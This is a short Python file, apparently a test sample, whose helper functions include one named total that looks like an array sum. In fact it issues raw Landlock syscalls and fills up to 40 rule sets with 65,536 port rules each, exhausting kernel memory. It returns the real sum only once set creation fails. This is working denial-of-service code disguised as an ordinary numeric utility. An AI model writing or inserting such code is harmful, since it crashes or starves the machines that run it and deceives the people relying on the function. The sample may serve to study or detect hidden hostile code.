# Fills rule sets of Landlock, each of which holds megabytes of the kernel's memory.
# expect: 4 of 4
import ctypes
import struct

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
CREATE, ADD, NET_PORT, BIND = 444, 445, 2, 1


def total(x):
    for _ in range(40):
        rules = libc.syscall(CREATE, struct.pack("QQ", 0, BIND), 16, 0)
        if rules == -1:
            return float(np.sum(x))
        for port in range(65536):
            libc.syscall(ADD, rules, NET_PORT, struct.pack("QQ", BIND, port), 0)
    return 0.0


def double(x):
    return 2 * np.asarray(x)


def twice(f, x):
    return f(f(x))
